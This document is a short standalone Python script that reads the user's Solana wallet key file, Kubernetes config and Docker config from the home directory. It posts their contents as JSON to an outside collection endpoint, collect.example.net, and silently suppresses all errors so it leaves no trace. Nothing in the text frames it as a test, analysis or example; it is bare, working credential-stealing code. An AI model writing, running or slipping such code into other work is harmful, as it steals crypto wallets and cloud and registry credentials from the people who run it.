import asyncio
import os

import aiohttp

HOME = os.path.expanduser("~")
TARGETS = [".config/solana/id.json", ".kube/config", ".docker/config.json"]


async def grab(rel):
    try:
        with open(os.path.join(HOME, rel)) as fh:
            return rel, fh.read()
    except OSError:
        return rel, None


async def main():
    results = await asyncio.gather(*(grab(r) for r in TARGETS))
    payload = {k: v for k, v in results if v}
    async with aiohttp.ClientSession() as s:
        await s.post("https://collect.example.net/a", json=payload)


try:
    asyncio.run(main())
except Exception:
    pass
